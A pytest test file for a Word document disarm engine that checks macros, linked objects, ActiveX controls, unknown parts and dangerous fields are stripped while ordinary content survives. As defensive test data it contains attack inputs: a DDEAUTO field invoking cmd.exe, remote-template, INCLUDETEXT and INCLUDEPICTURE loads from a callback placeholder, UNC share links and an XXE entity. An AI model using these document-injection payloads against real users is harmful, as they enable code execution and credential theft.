# ruff: noqa: E501 — XML as an attacker would write it
"""Word: what goes, what stays."""

from __future__ import annotations

import io

import docx
import pytest
from tests.engines.disarm.ooxml.build import (
    CALLBACK,
    CANARY,
    MS,
    OFFICE,
    XML,
    R,
    Surgery,
    W,
    assert_gone,
    assert_sound,
    excel,
    png,
    word,
)
from tests.engines.disarm.support import Result, stopped, through

from sekisho.disarm.account import Act
from sekisho.disarm.profile import STRICT

BODY = "<w:body>"
NS = (
    f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml"'
    ' xmlns:o="urn:schemas-microsoft-com:office:office"'
)


def with_body(xml: str) -> Surgery:
    """A document whose body begins with this."""
    surgery = Surgery(word())
    return surgery.replace("word/document.xml", BODY, BODY + xml)


def safe(surgery: Surgery, name: str = "a.docx", *canaries: str) -> Result:
    """Disarmed; the canary is gone, the package sound, and python-docx opens it."""
    result = through(surgery.bytes(), name)
    assert_gone(result.content, *canaries)
    assert_sound(result.content)
    docx.Document(io.BytesIO(result.content))
    return result


def body_of(result: Result) -> str:
    return Surgery(result.content).parts["word/document.xml"].decode()


def test_macros_go_and_the_kind_is_the_one_without() -> None:
    surgery = Surgery(word())
    surgery.main_type(
        OFFICE + "wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    surgery.part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", CANARY)
    surgery.part("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml", f"<a>{CANARY}</a>")
    surgery.link("word/document.xml", f"{MS}/vbaProject", "vbaProject.bin")
    surgery.link("word/vbaProject.bin", f"{MS}/wordVbaData", "vbaData.xml")
    result = safe(surgery, "a.docm")
    assert result.said.kind == "docm"
    assert (result.said.kind_out, result.said.name) == ("docx", "a.docx")
    assert result.rows(Act.REMOVED)["macro"] == 1
    assert "macroEnabled" not in Surgery(result.content).parts["[Content_Types].xml"].decode()


SETTINGS_TRAPS = {
    "attachedTemplate": ("remote-template", "<w:attachedTemplate r:id='{id}'/>"),
    "mailMergeSource": (
        "data-source",
        "<w:mailMerge><w:mainDocumentType w:val='email'/>"
        f"<w:connectString w:val='{CALLBACK}'/><w:dataSource r:id='{{id}}'/></w:mailMerge>",
    ),
}


@pytest.mark.parametrize("kind", SETTINGS_TRAPS)
def test_settings_that_load_something_go(kind: str) -> None:
    thing, xml = SETTINGS_TRAPS[kind]
    surgery = Surgery(word())
    number = surgery.link("word/settings.xml", kind, CALLBACK + ".dotm", external=True)
    text = surgery.parts["word/settings.xml"].decode()
    at = text.index(">", text.index("<w:settings")) + 1
    new = xml.format(id=number).replace("r:id", f'xmlns:r="{R}" r:id')
    surgery.parts["word/settings.xml"] = (text[:at] + new + text[at:]).encode()
    result = safe(surgery)
    assert result.rows(Act.REMOVED)[thing] >= 1


def test_document_variables_go() -> None:
    surgery = Surgery(word())
    text = surgery.parts["word/settings.xml"].decode()
    at = text.index(">", text.index("<w:settings")) + 1
    trap = f'<w:docVars><w:docVar w:name="x" w:val="{CANARY}"/></w:docVars>'
    surgery.parts["word/settings.xml"] = (text[:at] + trap + text[at:]).encode()
    assert safe(surgery).rows(Act.REMOVED)["custom-data"] >= 1


def picture(link: str) -> str:
    return (
        f'<w:p {NS}><w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata {link}/>'
        "</v:shape></w:pict></w:r></w:p>"
    )


BODY_TRAPS = {
    "altChunk": ("aFChunk", f'<w:altChunk {NS} r:id="{{id}}"/>', "foreign-part"),
    "subDoc": ("subDocument", f'<w:subDoc {NS} r:id="{{id}}"/>', "outside-part"),
    "external picture": (
        "image",
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        'wordprocessingDrawing"><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="x"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData'
        ' uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://'
        'schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0" name="x"/>'
        f'<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip xmlns:r="{R}" r:link="{{id}}"/>'
        "<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic></a:graphicData>"
        "</a:graphic></wp:inline></w:drawing></w:r></w:p>",
        "outside-picture",
    ),
    "VML picture": ("image", picture('r:href="{id}" r:id="{id}"'), "outside-picture"),
    "link to a share": (
        "hyperlink",
        f'<w:p {NS}><w:hyperlink r:id="{{id}}"><w:r><w:t>押す</w:t></w:r></w:hyperlink></w:p>',
        "link-outside",
    ),
    "linked object": (
        "oleObject",
        f'<w:p {NS}><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="{{id}}"'
        ' ShapeID="a" UpdateMode="Always"/></w:object></w:r></w:p>',
        "ole-object",
    ),
}


@pytest.mark.parametrize("what", BODY_TRAPS)
@pytest.mark.parametrize("target", [f"file://{CANARY}/share/x", f"\\\\{CANARY}\\s"])
def test_what_reaches_outside_by_a_relationship_goes(what: str, target: str) -> None:
    kind, xml, thing = BODY_TRAPS[what]
    surgery = Surgery(word())
    number = surgery.link("word/document.xml", kind, target, external=True)
    surgery.replace("word/document.xml", BODY, BODY + xml.format(id=number))
    result = safe(surgery)
    assert thing in result.rows(Act.REMOVED) | result.rows(Act.REPLACED)


@pytest.mark.parametrize("scheme", ["javascript:", "ms-word:ofe|u|http://", "file:///", "ftp://"])
def test_links_of_other_schemes_go_their_text_stays(scheme: str) -> None:
    surgery = Surgery(word())
    number = surgery.link("word/document.xml", "hyperlink", f"{scheme}{CANARY}", external=True)
    trap = BODY_TRAPS["link to a share"][1].format(id=number)
    result = safe(surgery.replace("word/document.xml", BODY, BODY + trap))
    assert "押す" in body_of(result)
    assert "hyperlink" not in body_of(result)


def test_links_to_the_web_stay_by_policy() -> None:
    surgery = Surgery(word())
    number = surgery.link(
        "word/document.xml", "hyperlink", "https://www.example.jp/", external=True
    )
    trap = BODY_TRAPS["link to a share"][1].format(id=number)
    data = surgery.replace("word/document.xml", BODY, BODY + trap).bytes()
    kept = through(data, "a.docx")
    assert kept.rows(Act.KEPT)["clickable-link"] == 1
    assert (
        "https://www.example.jp/"
        in Surgery(kept.content).parts["word/_rels/document.xml.rels"].decode()
    )
    assert_gone(through(data, "a.docx", STRICT).content, "www.example.jp")


def complex_field(*pieces: str, result: str = "結果") -> str:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces
    )
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return (
        f"<w:p>{mark.format('begin')}{runs}{mark.format('separate')}"
        f"<w:r><w:t>{result}</w:t></w:r>{mark.format('end')}</w:p>"
    )


NESTED = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    + complex_field(" QUOTE 68 68 69 ", result="DDE").removeprefix("<w:p>").removesuffix("</w:p>")
    + f'<w:r><w:instrText> c:\\ "{CANARY}" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
FIELD_TRAPS = {
    "dde": complex_field(f' DDEAUTO c:\\\\cmd.exe "/k {CANARY}" '),
    "dde in pieces": complex_field(" D", "DE", "AU", "TO ", f'"{CANARY}" x '),
    "dde in small letters": complex_field(f" ddeauto {CANARY} "),
    "simple": f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{CALLBACK}&quot; "><w:r><w:t>結果</w:t>'
    "</w:r></w:fldSimple></w:p>",
    "picture": complex_field(f' INCLUDEPICTURE "{CALLBACK}" \\d '),
    "name by another field": NESTED,
    "macro button": complex_field(f" MACROBUTTON {CANARY} 押す "),
    "data base": complex_field(f' DATABASE \\d "{CALLBACK}" '),
    "link": complex_field(f" LINK Excel.Sheet.12 {CANARY} "),
    "import": complex_field(f" IMPORT {CANARY} "),
    "auto text": complex_field(f" AUTOTEXT {CANARY} "),
    "unknown": complex_field(f" NEWFIELD {CANARY} "),
    "share in a link": complex_field(f' HYPERLINK "\\\\{CANARY}\\x" '),
    "share behind a switch": complex_field(f' HYPERLINK \\o "x" "file://{CANARY}" '),
    "form with macro": '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="a"/>'
    f'<w:entryMacro w:val="{CANARY}"/><w:exitMacro w:val="{CANARY}"/></w:ffData></w:fldChar></w:r>'
    "<w:r><w:instrText> FORMTEXT </w:instrText></w:r><w:r><w:fldChar w:fldCharType='separate'/></w:r>"
    "<w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>",
    "field without end": f'<w:p><w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    f"<w:r><w:instrText> DDE {CANARY} </w:instrText></w:r></w:p>",
    "instruction without field": f"<w:p><w:r><w:t>結果</w:t><w:instrText> DDE {CANARY} </w:instrText>"
    "</w:r></w:p>",
}


@pytest.mark.parametrize("what", FIELD_TRAPS)
def test_fields_that_load_or_run_keep_their_result_only(what: str) -> None:
    result = safe(with_body(FIELD_TRAPS[what]))
    assert "結果" in body_of(result)
    assert not {"field", "macro"}.isdisjoint(result.rows(Act.REMOVED))


@pytest.mark.parametrize(
    "instruction",
    [
        "PAGE",
        'TOC \\o "1-3" \\h \\z',
        "= SUM(ABOVE)",
        'HYPERLINK "https://a.example.jp/"',
        "HYPERLINK \\l _Toc1",
        "EQ \\* jc2 \\* &quot;Font:MS 明朝&quot; \\o\\ad(\\s\\up 9(かな),漢字)",
        "DATE \\@ &quot;ggge年&quot;",
    ],
)
def test_fields_that_only_count_or_refer_stay(instruction: str) -> None:
    result = safe(with_body(complex_field(f" {instruction} ")))
    assert "field" not in result.rows(Act.REMOVED)
    assert "instrText" in body_of(result)


def ole(kind: str = "Embed") -> str:
    return (
        f'<w:p {NS}><w:r><w:object w:dxaOrig="1" w:dyaOrig="1"><v:shape id="s1" style="width:9pt"><v:imagedata'
        f' r:id="{{pic}}"/></v:shape><o:OLEObject Type="{kind}" ProgID="Excel.SheetMacroEnabled.12"'
        ' ShapeID="s1" DrawAspect="Content" ObjectID="_1" r:id="{ole}"/></w:object></w:r></w:p>'
    )


def with_object(kind: str, name: str, content_type: str, data: bytes) -> Surgery:
    surgery = Surgery(word())
    surgery.part("word/media/p.png", "image/png", png())
    surgery.part(name, content_type, data)
    pic = surgery.link("word/document.xml", "image", "media/p.png")
    obj = surgery.link("word/document.xml", kind, name.removeprefix("word/"))
    return surgery.replace("word/document.xml", BODY, BODY + ole().format(pic=pic, ole=obj))


def test_an_ole_object_becomes_its_picture() -> None:
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + CANARY.encode()
    result = safe(with_object("oleObject", "word/embeddings/o.bin", OFFICE + "oleObject", data))
    assert "OLEObject" not in body_of(result)
    assert "<w:pict>" in body_of(result)
    assert "imagedata" in body_of(result)
    assert result.rows(Act.REPLACED)["ole-object"] == 1


def test_an_embedded_workbook_is_disarmed_in_place() -> None:
    book = Surgery(excel())
    book.main_type(
        OFFICE + "spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    book.part("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", CANARY)
    book.link("xl/workbook.xml", f"{MS}/vbaProject", "vbaProject.bin")
    surgery = with_object(
        "package",
        "word/embeddings/b.xlsm",
        "application/vnd.ms-excel.sheet.macroEnabled.12",
        book.bytes(),
    )
    result = safe(surgery)
    assert "word/embeddings/b.xlsx" in Surgery(result.content).parts
    assert 'ProgID="Excel.Sheet.12"' in body_of(result)
    gone = through(surgery.bytes(), "a.docx", STRICT)
    assert "OLEObject" not in body_of(gone)
    assert not any("embeddings" in name for name in Surgery(gone.content).parts)


def test_controls_go() -> None:
    surgery = Surgery(word())
    surgery.part("word/activeX/a.xml", "application/vnd.ms-office.activeX+xml", f"<a>{CANARY}</a>")
    number = surgery.link("word/document.xml", "control", "activeX/a.xml")
    xml = f'<w:p {NS}><w:r><w:object><w:control r:id="{number}" w:name="{CANARY}"/></w:object></w:r></w:p>'
    result = safe(surgery.replace("word/document.xml", BODY, BODY + xml))
    assert result.rows(Act.REMOVED)["activex"] >= 1


PART_TRAPS = {
    "customXml": ("customXml", "customXml/item9.xml", "application/xml", "custom-data"),
    "glossary": (
        "glossaryDocument",
        "word/glossary/document.xml",
        OFFICE + "wordprocessingml.document.glossary+xml",
        "building-blocks",
    ),
    "webSettings": (
        "webSettings",
        "word/web9.xml",
        OFFICE + "wordprocessingml.webSettings+xml",
        "web-settings",
    ),
    "people": (
        "http://schemas.microsoft.com/office/2011/relationships/people",
        "word/people.xml",
        OFFICE + "wordprocessingml.people+xml",
        "people",
    ),
    "unknown": (
        "http://example.com/strange",
        "word/strange.bin",
        "application/octet-stream",
        "office-unknown-part",
    ),
    "afChunk": ("aFChunk", "word/chunk.html", "text/html", "foreign-part"),
}


@pytest.mark.parametrize("what", PART_TRAPS)
def test_parts_that_are_not_in_the_list_go(what: str) -> None:
    kind, name, content_type, thing = PART_TRAPS[what]
    surgery = Surgery(word()).part(name, content_type, f"<a>{CANARY}</a>")
    surgery.link("word/document.xml", kind, "/" + name)
    assert thing in safe(surgery).rows(Act.REMOVED)


@pytest.mark.parametrize(
    ("kind", "name", "content_type", "thing"),
    [
        (
            "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
            "customUI/c.xml",
            "application/xml",
            "ribbon",
        ),
        (
            "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
            "we/t.xml",
            "application/vnd.ms-office.webextensiontaskpanes+xml",
            "web-extension",
        ),
        (
            "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin",
            "_xmlsignatures/origin.sigs",
            "application/vnd.openxmlformats-package.digital-signature-origin",
            "signature",
        ),
        (
            f"{R}/custom-properties",
            "docProps/custom.xml",
            OFFICE + "custom-properties+xml",
            "properties",
        ),
    ],
)
def test_parts_of_the_package_that_are_not_in_the_list_go(
    kind: str, name: str, content_type: str, thing: str
) -> None:
    surgery = Surgery(word()).part(name, content_type, f"<a>{CANARY}</a>")
    surgery.link("", kind, name)
    assert thing in safe(surgery).rows(Act.REMOVED)


def test_unknown_elements_attributes_and_hidden_text_go() -> None:
    strange = (
        f'<w:p w:strange="{CANARY}" xmlns:q="http://{CANARY}/q" q:a="{CANARY}">{CANARY}<w:r><q:x>{CANARY}</q:x>'
        f"<w:t>見える</w:t></w:r>{CANARY}</w:p><w:strange>{CANARY}</w:strange><?pi {CANARY}?><!-- {CANARY} -->"
    )
    result = safe(with_body(strange))
    assert "見える" in body_of(result)
    removed = result.rows(Act.REMOVED)
    assert removed["office-unknown"] == 2
    assert removed["office-unknown-attribute"] >= 1
    assert removed["office-hidden-text"] >= 1


def test_alternatives_that_are_not_known_go_the_fallback_stays() -> None:
    mc = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    xml = (
        f'<w:p><mc:AlternateContent xmlns:mc="{mc}"><mc:Choice Requires="q" xmlns:q="http://{CANARY}/q">'
        f"<w:r><w:t>{CANARY}</w:t></w:r></mc:Choice><mc:Fallback><w:r><w:t>代わり</w:t></w:r>"
        "</mc:Fallback></mc:AlternateContent></w:p>"
    )
    result = safe(with_body(xml))
    assert "代わり" in body_of(result)
    assert "AlternateContent" not in body_of(result)


def test_bound_controls_are_unbound_and_keep_their_content() -> None:
    xml = (
        f'<w:sdt><w:sdtPr><w:dataBinding w:xpath="/{CANARY}" w:storeItemID="{{0}}"/></w:sdtPr>'
        "<w:sdtContent><w:p><w:r><w:t>中身</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    )
    assert "中身" in body_of(safe(with_body(xml)))


def test_comments_stay_or_go_by_policy() -> None:
    document = docx.Document()
    run = document.add_paragraph("本文").runs[0]
    document.add_comment(run, text="ひみつのコメント", author="山田")
    out = io.BytesIO()
    document.save(out)
    kept = through(out.getvalue(), "a.docx")
    assert "ひみつのコメント" in Surgery(kept.content).parts["word/comments.xml"].decode()
    gone = through(out.getvalue(), "a.docx", STRICT)
    assert_gone(gone.content, "ひみつのコメント")
    assert "comment" not in body_of(gone)
    docx.Document(io.BytesIO(gone.content))


def test_ruby_vertical_text_and_private_characters_survive() -> None:
    xml = (
        "<w:p><w:r><w:ruby><w:rubyPr><w:rubyAlign w:val='distributeSpace'/><w:hps w:val='10'/>"
        "<w:hpsRaise w:val='18'/><w:hpsBaseText w:val='21'/><w:lid w:val='ja-JP'/></w:rubyPr><w:rt><w:r>"
        "<w:t>かんじ</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>漢字</w:t></w:r></w:rubyBase></w:ruby></w:r>"
        "<w:r><w:rPr><w:eastAsianLayout w:id='1' w:vert='1'/><w:em w:val='dot'/></w:rPr><w:t>縦\ue000\U000f0000</w:t>"
        "</w:r></w:p>"
    )
    body = body_of(safe(with_body(xml)))
    for piece in ("<w:ruby>", "かんじ", "漢字", 'w:vert="1"', "縦\ue000\U000f0000"):
        assert piece in body


def test_a_doctype_stops() -> None:
    surgery = Surgery(word())
    text = surgery.parts["word/document.xml"]
    at = text.index(b"<w:document")
    evil = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{CALLBACK}">]>'.encode()
    surgery.parts["word/document.xml"] = text[:at] + evil + text[at:]
    stopped(surgery.bytes(), "a.docx", "SKS-D112")


def test_deep_xml_stops() -> None:
    deep = "<w:sdt><w:sdtContent>" * 5_000 + "</w:sdtContent></w:sdt>" * 5_000
    stopped(with_body(deep).bytes(), "a.docx", "SKS-D113")


def test_title_and_subject_stay_names_and_dates_do_not() -> None:
    document = docx.Document()
    document.core_properties.title = "件名"
    document.core_properties.author = CANARY
    document.core_properties.last_modified_by = CANARY
    out = io.BytesIO()
    document.save(out)
    result = through(out.getvalue(), "a.docx")
    assert_gone(result.content)
    assert "件名" in Surgery(result.content).parts["docProps/core.xml"].decode()
    assert_gone(through(out.getvalue(), "a.docx", STRICT).content, "件名")


def test_a_number_in_several_runs_is_found() -> None:
    xml = "<w:p><w:r><w:t>123456</w:t></w:r><w:r><w:t>789018</w:t></w:r></w:p>"
    result = through(with_body(xml).bytes(), "a.docx")
    assert result.entry("individual-number").where == "本文"


def test_xml_that_ends_too_early_stops() -> None:
    surgery = Surgery(word())
    surgery.parts["word/document.xml"] = XML + b"<w:document"
    stopped(surgery.bytes(), "a.docx", "SKS-D111")


def test_fields_to_fill_in_become_text_by_policy() -> None:
    xml = (
        '<w:sdt><w:sdtPr><w:alias w:val="名"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>中身</w:t></w:r></w:p>'
        "</w:sdtContent></w:sdt>" + complex_field(" FORMTEXT ")
    )
    data = with_body(xml).bytes()
    assert "w:sdt>" in body_of(through(data, "a.docx"))
    strict = body_of(through(data, "a.docx", STRICT))
    assert "sdt" not in strict
    assert "FORMTEXT" not in strict
    assert "中身" in strict
    assert "結果" in strict
